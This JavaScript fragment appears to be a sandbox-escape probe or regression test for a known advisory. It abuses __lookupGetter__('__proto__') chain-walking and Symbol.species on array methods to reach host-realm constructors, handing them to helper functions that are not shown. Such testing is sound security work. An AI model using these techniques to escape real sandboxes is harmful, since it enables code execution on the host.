// class: species of an array of the host's
// advisory: GHSA-grj5-jjm8-h35p, 3.11.0
const lookup = {}.__lookupGetter__;
for (const source of sources()) {
  const call = source.apply, bind = source.bind;
  attempt(() => {
    const up = call.call(lookup, source, ['__proto__']);
    let top = source;
    for (let i = 0; i < 8 && top; i++) { top = up.call(top); probe(top); probe(top?.constructor) }
  });
  attempt(() => {
    const list = source.constructor.constructor === undefined ? [] : Object.entries({ a: source });
    const self = function () { return list };
    self[Symbol.species] = self;
    list.constructor = self;
    for (const method of ['map', 'filter', 'slice', 'concat', 'splice', 'flatMap']) { list.length = 1; list[method]?.(call.bind(bind, source)); dig(list) }
  });
  for (const made of [() => source.from?.([1]), () => source.of?.(1), () => source('x'), () => new source(1)]) {
    const list = attempt(made);
    attempt(() => { list.constructor = { [Symbol.species]: function () { return list } }; dig(list.map((x) => x)); dig(list.slice(0)) });
  }
}
